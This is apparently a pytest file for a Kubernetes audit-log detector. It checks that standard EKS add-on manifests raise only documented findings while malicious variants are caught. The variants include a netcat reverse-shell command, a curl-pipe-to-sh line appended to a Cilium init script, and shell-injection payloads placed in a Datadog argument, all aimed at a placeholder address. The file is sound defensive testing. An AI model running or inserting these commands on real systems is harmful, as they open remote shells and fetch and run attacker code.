"""The workload rules on real manifests: what platform teams install on EKS (CNI, CSI
drivers, node agents, operators), as Helm or kubectl applies it (an IAM role), as a GitOps
controller applies it, as EKS's add-on manager applies it, and the pods the workload
controllers then create from it on every node. Each install should raise only the
low records the rules document (a DaemonSet or a CronJob created by a person); each
exception that keeps them quiet is checked against its nearest malicious variant (the
same image given a shell, one more host path or namespace, an unknown image with the
same spec).

The manifests are in tests/data/manifests/, trimmed to what the rules read, each with the
repository, path and commit it was rendered from.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import yaml
from test_rules_helpers import ev, frame, iam, sa

from detector.rules import evaluate_rules, load_ruleset
from detector.rules.condition import DERIVED_FIELDS

MANIFESTS = Path(__file__).parent / "data" / "manifests"

PERSON = iam("alice", "platform-admin")  # helm install / kubectl apply
ARGO = sa("argocd", "argocd-application-controller")
ADDON_MANAGER = {"username": "eks:addon-manager", "groups": ["system:authenticated"]}
# A person from the office, the rest from inside the VPC (system identities from a public
# address outside AWS are a rule of their own).
ACTORS = {
    "person": (PERSON, "Helm/3.16.2", "203.0.113.7"),
    "argocd": (ARGO, "argocd-application-controller/v3.4.4", "10.0.12.34"),
    "addon-manager": (ADDON_MANAGER, "eks-addon-manager", "10.0.0.9"),
}
RESOURCES = {
    "DaemonSet": ("daemonsets", "apps"),
    "Deployment": ("deployments", "apps"),
    "StatefulSet": ("statefulsets", "apps"),
    "Job": ("jobs", "batch"),
    "CronJob": ("cronjobs", "batch"),
}
POD_CREATOR = {  # who creates the pods of each kind of workload
    "DaemonSet": "daemon-set-controller",
    "Deployment": "replicaset-controller",
    "StatefulSet": "statefulset-controller",
    "Job": "job-controller",
    "CronJob": "job-controller",
}
REVERSE_SHELL = ["sh", "-c", "nc -e /bin/sh 198.51.100.7 4444"]


@pytest.fixture(scope="module")
def ruleset():
    return load_ruleset()


def load(name: str) -> dict[str, dict[str, Any]]:
    """The objects of one manifest file by name (a fresh copy each call)."""
    with open(MANIFESTS / name) as f:
        return {d["metadata"]["name"]: d for d in yaml.safe_load_all(f) if d}


#: Where an in-cluster operator's requests come from: its pod's VPC address.
OPERATOR_POD_IP = "10.0.7.21"


def write(obj: dict[str, Any], actor: str = "person", user: Any = None) -> dict[str, Any]:
    """The audit event of ``actor`` creating ``obj``, or of ``user``, an in-cluster
    operator, from its pod."""
    who, agent, ip = ACTORS[actor]
    if user is not None:
        ip = OPERATOR_POD_IP
    resource, group = RESOURCES[obj["kind"]]
    e = ev(
        "create",
        resource,
        ns=obj["metadata"]["namespace"],
        group=group,
        user=user or who,
        body=obj,
        code=201,
        ip=ip,
    )
    e["userAgent"] = agent
    return e


def pod_of(obj: dict[str, Any], spec: dict[str, Any] | None = None) -> dict[str, Any]:
    """The audit event of the workload's controller creating one of its pods."""
    if spec is None:
        tpl = obj["spec"]["jobTemplate"]["spec"] if obj["kind"] == "CronJob" else obj["spec"]
        spec = tpl["template"]["spec"]
    ns = obj["metadata"]["namespace"]
    body = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"generateName": obj["metadata"]["name"] + "-", "namespace": ns},
        "spec": spec,
    }
    controller = sa("kube-system", POD_CREATOR[obj["kind"]])
    return ev("create", "pods", ns=ns, user=controller, body=body, code=201, ip="10.0.0.8")


def operator_daemonset(cr: dict[str, Any]) -> dict[str, Any]:
    """The DaemonSet the CloudWatch agent operator renders from one of its custom
    resources: the image, host network, security context, volumes and account it names."""
    s = cr["spec"]
    container = {"name": cr["metadata"]["name"], "image": s["image"]}
    for key in ("securityContext", "command", "args"):
        if key in s:
            container[key] = s[key]
    pod: dict[str, Any] = {"serviceAccountName": s["serviceAccount"], "containers": [container]}
    for key in ("hostNetwork", "volumes"):
        if key in s:
            pod[key] = s[key]
    if "podSecurityContext" in s:
        pod["securityContext"] = s["podSecurityContext"]
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": cr["metadata"]["name"], "namespace": cr["metadata"]["namespace"]},
        "spec": {"template": {"spec": pod}},
    }


CW_OPERATOR = sa("amazon-cloudwatch", "amazon-cloudwatch-observability-controller-manager")
TIGERA_OPERATOR = sa("tigera-operator", "tigera-operator")


def fired(ruleset, rule_id: str, *events: dict[str, Any]) -> int:
    return fired_on(ruleset, rule_id, frame(*events))


def fired_on(ruleset, rule_id: str, events: pl.DataFrame) -> int:
    """Findings of one rule on events already normalized: a test asking several rules
    about the same events normalizes them once (30 ms a time, most of a one-rule check)."""
    return evaluate_rules(events, ruleset.only(rule_id)).findings.height


def rules_fired(ruleset, *events: dict[str, Any]) -> set[str]:
    """Every default rule that fires on ``events``."""
    result = evaluate_rules(frame(*events), ruleset)
    return {d.removeprefix("rule:") for d in result.findings["detector"]}


def pod_spec(obj: dict[str, Any]) -> dict[str, Any]:
    return obj["spec"]["template"]["spec"]


# --------------------------------------------------------------------------- every install

WORKLOAD_FILES = sorted(p.name for p in MANIFESTS.glob("*.yaml"))
INTENDED = {"DaemonSet": {"daemonset-created-by-person"}, "CronJob": {"cronjob-created-by-person"}}


@pytest.mark.parametrize("name", WORKLOAD_FILES)
def test_an_install_raises_only_the_documented_records(ruleset, name):
    """Every workload of the manifest, written by a person, by Argo CD and by EKS's add-on
    manager, and the pods its controller creates: only 'a person created a DaemonSet /
    CronJob' (low, by design), nothing else: no privileged, host-mount, host-namespace,
    capability, kube-system or shell-command finding."""
    got: dict[tuple[str, str], set[str]] = {}
    for obj in load(name).values():
        if obj["kind"] not in RESOURCES:
            obj = operator_daemonset(obj)  # what the operator writes from it
            got[(obj["metadata"]["name"], "operator")] = rules_fired(
                ruleset, write(obj, user=CW_OPERATOR)
            )
        else:
            for actor in ACTORS:
                got[(obj["metadata"]["name"], actor)] = rules_fired(ruleset, write(obj, actor))
        got[(obj["metadata"]["name"], "controller")] = rules_fired(ruleset, pod_of(obj))
        if name == "calico.yaml":  # the Tigera operator renders the same node DaemonSet
            operated = copy.deepcopy(obj)
            operated["metadata"]["namespace"] = "calico-system"
            got[(obj["metadata"]["name"], "tigera-operator")] = rules_fired(
                ruleset, write(operated, user=TIGERA_OPERATOR)
            )
    kinds = {o["metadata"]["name"]: o["kind"] for o in load(name).values()}
    want = {
        (obj, actor): INTENDED.get(kinds[obj], set()) if actor == "person" else set()
        for obj, actor in got
    }
    assert got == want


# --------------------------------------------------------------------------- EKS's own CSI drivers


def test_ebs_and_efs_csi_sidecars_are_trusted_one_repository_at_a_time(ruleset):
    """The EBS/EFS CSI charts' sidecars (public.ecr.aws/csi-components/...) are AWS's;
    trusted by exact repository, not the namespace, and never with a shell."""
    node = load("aws-ebs-csi-driver.yaml")["ebs-csi-node"]
    for rule in ("privileged-container", "sensitive-host-mount", "trusted-image-shell-command"):
        assert fired(ruleset, rule, write(node), pod_of(node)) == 0
    efs = load("aws-efs-csi-driver.yaml")
    assert fired(ruleset, "host-namespace-pod", write(efs["efs-csi-node"])) == 0
    assert fired(ruleset, "privileged-container", write(efs["efs-csi-controller"])) == 0
    other = copy.deepcopy(node)
    pod_spec(other)["containers"][1]["image"] = "public.ecr.aws/csi-components/miner:v1"
    assert fired(ruleset, "privileged-container", write(other)) == 1
    assert fired(ruleset, "sensitive-host-mount", write(other)) == 1
    assert fired(ruleset, "pod-in-kube-namespace", pod_of(other)) == 1
    shell = copy.deepcopy(node)
    pod_spec(shell)["containers"][1]["command"] = REVERSE_SHELL
    assert fired(ruleset, "trusted-image-shell-command", write(shell)) == 1


# --------------------------------------------------------------------------- host network only


def test_host_network_images_may_share_only_the_network(ruleset):
    nth = load("aws-node-termination-handler.yaml")["aws-node-termination-handler"]
    operator = load("tigera-operator.yaml")["tigera-operator"]
    cilium_operator = load("cilium-1.19.yaml")["cilium-operator"]
    for obj in (nth, operator, cilium_operator):
        assert fired(ruleset, "host-namespace-pod", write(obj), pod_of(obj)) == 0
        pid = copy.deepcopy(obj)
        pod_spec(pid)["hostPID"] = True
        assert fired(ruleset, "host-namespace-pod", write(pid)) == 1
        unknown = copy.deepcopy(obj)
        pod_spec(unknown)["containers"][0]["image"] = "ghcr.io/acme/agent:1.0"
        assert fired(ruleset, "host-namespace-pod", write(unknown)) == 1


def test_node_termination_handler_reads_uptime_not_proc(ruleset):
    """/proc/uptime is routine (a clock); /proc beside it is the node's processes."""
    nth = load("aws-node-termination-handler.yaml")["aws-node-termination-handler"]
    assert fired(ruleset, "sensitive-host-mount", write(nth)) == 0
    assert fired(ruleset, "pod-in-kube-namespace", pod_of(nth)) == 0
    proc = copy.deepcopy(nth)
    pod_spec(proc)["volumes"].append({"name": "proc", "hostPath": {"path": "/proc"}})
    assert fired(ruleset, "sensitive-host-mount", write(proc)) == 1


# --------------------------------------------------------------------------- host paths by tool


def test_velero_and_the_aws_secrets_provider_keep_to_their_own_host_folders(ruleset):
    agent = load("velero.yaml")["node-agent"]
    provider = load("secrets-store-csi-driver-provider-aws.yaml")[
        "secrets-store-csi-driver-provider-aws"
    ]
    for obj in (agent, provider):
        assert fired(ruleset, "sensitive-host-mount", write(obj), pod_of(obj)) == 0
        # One more folder, writable: the node's programs.
        more = copy.deepcopy(obj)
        pod_spec(more)["volumes"].append({"name": "bin", "hostPath": {"path": "/usr/bin"}})
        assert fired(ruleset, "sensitive-host-mount", write(more)) == 1
        # The same folders in an image that is not the tool's.
        other = copy.deepcopy(obj)
        pod_spec(other)["containers"][0]["image"] = "docker.io/library/busybox:1.36"
        assert fired(ruleset, "sensitive-host-mount", write(other)) == 1
        # The tool's image running a shell of one's own over every pod's volumes.
        shell = copy.deepcopy(obj)
        pod_spec(shell)["containers"][0]["command"] = REVERSE_SHELL
        assert fired(ruleset, "trusted-image-shell-command", write(shell)) == 1
    # Velero's own server and its node-agent run no shell.
    assert fired(ruleset, "trusted-image-shell-command", write(load("velero.yaml")["velero"])) == 0


# --------------------------------------------------------------------------- node agents


@pytest.mark.parametrize(
    ("name", "obj", "container"),
    [
        ("calico.yaml", "calico-node", ("initContainers", 0)),
        ("cilium-1.19.yaml", "cilium", ("containers", 0)),
        ("cilium-1.19.yaml", "cilium-envoy", ("containers", 0)),
        ("datadog.yaml", "datadog", ("containers", 0)),
        ("falco.yaml", "falco", ("initContainers", 0)),
        ("istio-cni.yaml", "istio-cni-node", ("containers", 0)),
        ("ztunnel.yaml", "ztunnel", ("containers", 0)),
        ("secrets-store-csi-driver.yaml", "secrets-store-csi-driver", ("containers", 0)),
    ],
)
def test_node_agents_are_trusted_for_their_own_programs_only(ruleset, name, obj, container):
    """Each agent's published DaemonSet is quiet; the same DaemonSet with a reverse
    shell in one container, or with one container of an unknown image, is reported."""
    ds = load(name)[obj]
    everything = ["privileged-container", "sensitive-host-mount", "host-namespace-pod"]
    everything += ["dangerous-capabilities", "root-with-privilege-escalation"]
    everything += ["trusted-image-shell-command"]
    published = frame(write(ds))
    for rule in everything:
        assert fired_on(ruleset, rule, published) == 0, rule
    key, i = container
    shell = copy.deepcopy(ds)
    pod_spec(shell)[key][i].pop("args", None)
    pod_spec(shell)[key][i]["command"] = REVERSE_SHELL
    assert fired(ruleset, "trusted-image-shell-command", write(shell)) == 1
    other = copy.deepcopy(ds)
    pod_spec(other)[key][i]["image"] = "ghcr.io/acme/agent:1.0"
    unknown = frame(write(other))
    reported = {r for r in everything if fired_on(ruleset, r, unknown)}
    assert reported  # whatever the agent needs, an unknown image needing it is reported


def test_cloudwatch_agents_rendered_by_their_operator(ruleset):
    """The CloudWatch Observability add-on's operator (a service account) creates the
    agent DaemonSets: the host's root, runtime sockets and /sys, SYS_ADMIN, privileged."""
    crs = load("amazon-cloudwatch-observability.yaml")
    agent = operator_daemonset(crs["cloudwatch-agent"])
    for rule in ("sensitive-host-mount", "host-namespace-pod", "trusted-image-shell-command"):
        assert fired(ruleset, rule, write(agent, user=CW_OPERATOR), pod_of(agent)) == 0
    neuron = operator_daemonset(crs["neuron-monitor"])
    assert fired(ruleset, "privileged-container", write(neuron, user=CW_OPERATOR)) == 0
    dcgm = operator_daemonset(crs["dcgm-exporter"])
    assert fired(ruleset, "dangerous-capabilities", write(dcgm, user=CW_OPERATOR)) == 0
    # The operator's token used for a shell in the agent's image, or for another image.
    shell = copy.deepcopy(agent)
    pod_spec(shell)["containers"][0]["command"] = REVERSE_SHELL
    assert fired(ruleset, "trusted-image-shell-command", write(shell, user=CW_OPERATOR)) == 1
    other = copy.deepcopy(agent)
    pod_spec(other)["containers"][0]["image"] = "ghcr.io/acme/agent:1.0"
    assert fired(ruleset, "sensitive-host-mount", write(other, user=CW_OPERATOR)) == 1


# --------------------------------------------------------------------------- known shell scripts


@pytest.mark.parametrize("name", ["cilium-1.19.yaml", "cilium-1.18.yaml"])
def test_cilium_init_scripts_are_known_word_for_word(ruleset, name):
    """Cilium's init containers run nsenter from bash (sh before 1.19): those scripts,
    exactly, and nothing added to them or beside them."""
    ds = load(name)["cilium"]
    assert fired(ruleset, "trusted-image-shell-command", write(ds)) == 0
    inits = pod_spec(ds)["initContainers"]
    mount = next(c for c in inits if c["name"] == "mount-cgroup")
    appended = copy.deepcopy(ds)
    script = next(c for c in pod_spec(appended)["initContainers"] if c["name"] == "mount-cgroup")
    script["command"][-1] = mount["command"][-1] + "curl -s http://198.51.100.7/x | sh\n"
    assert fired(ruleset, "trusted-image-shell-command", write(appended)) == 1
    beside = copy.deepcopy(ds)
    pod_spec(beside)["initContainers"].append(
        {"name": "x", "image": mount["image"], "command": REVERSE_SHELL}
    )
    assert fired(ruleset, "trusted-image-shell-command", write(beside)) == 1
    # The same script in another container of the pod is still the same line: known.
    assert fired(ruleset, "privileged-container", write(ds), pod_of(ds)) == 0


def test_datadog_init_scripts_are_known_and_a_glob_in_them_is_literal(ruleset):
    ds = load("datadog.yaml")["datadog"]
    init = next(c for c in pod_spec(ds)["initContainers"] if c["name"] == "init-config")
    assert "'*.sh'" in init["args"][0]
    assert fired(ruleset, "trusted-image-shell-command", write(ds)) == 0
    # The known line writes '*.sh' (a [*] in the list): anything else there is not it.
    for payload in ("x; curl -s http://198.51.100.7/x | sh; y.sh", "*.sh' ; nc -e /bin/sh h 1 #"):
        swapped = copy.deepcopy(ds)
        c = next(c for c in pod_spec(swapped)["initContainers"] if c["name"] == "init-config")
        c["args"] = [init["args"][0].replace("*.sh", payload)]
        assert fired(ruleset, "trusted-image-shell-command", write(swapped)) == 1


# --------------------------------------------------------------------------- kube-system pods


def test_add_on_pods_in_kube_system_on_every_node_or_run(ruleset):
    """DaemonSets start a pod on every new node and the descheduler's CronJob one every
    two minutes: in kube-system, their images are the cluster's own."""
    objs = [
        load("kube-state-metrics.yaml")["kube-state-metrics"],
        load("coredns.yaml")["coredns"],
        load("descheduler.yaml")["descheduler"],
        load("secrets-store-csi-driver.yaml")["secrets-store-csi-driver-upgrade-crds"],
        load("cilium-1.19.yaml")["cilium"],
        load("calico.yaml")["calico-node"],
    ]
    for obj in objs:
        assert fired(ruleset, "pod-in-kube-namespace", pod_of(obj)) == 0, obj["metadata"]
    job = load("descheduler.yaml")["descheduler"]
    spec = copy.deepcopy(job["spec"]["jobTemplate"]["spec"]["template"]["spec"])
    spec["containers"][0]["image"] = "docker.io/library/busybox:1.36"
    assert fired(ruleset, "pod-in-kube-namespace", pod_of(job, spec)) == 1


# --------------------------------------------------------------------------- the field


def test_shell_command_lines_are_per_container_and_skip_probes():
    ds = load("cilium-1.19.yaml")["cilium"]
    patch = ev(
        "patch",
        "daemonsets",
        ns="kube-system",
        group="apps",
        body=[
            {"op": "replace", "path": "/spec/template/spec/containers/0/command", "value": ["sh"]},
            {"op": "test", "path": "/spec/template/spec/containers/0/args", "value": ["sh"]},
        ],
    )
    got = frame(write(ds), patch).select(
        DERIVED_FIELDS["container_command_lines"].build().alias("all"),
        DERIVED_FIELDS["shell_command_lines"].build().alias("shell"),
    )
    lines, shell = got["all"][0].to_list(), got["shell"][0].to_list()
    assert "cilium-agent --config-dir=/tmp/cilium/config-map" in lines
    assert "/init-container.sh" in lines and "/init-container.sh" not in shell
    assert [line.split()[0] for line in shell] == ["bash", "bash", "/bin/bash"]
    assert not any("set -o errexit" in line for line in lines)  # the postStart hook: unread
    assert got["shell"][1].to_list() == ["sh"]  # a JSON patch; a `test` sets nothing
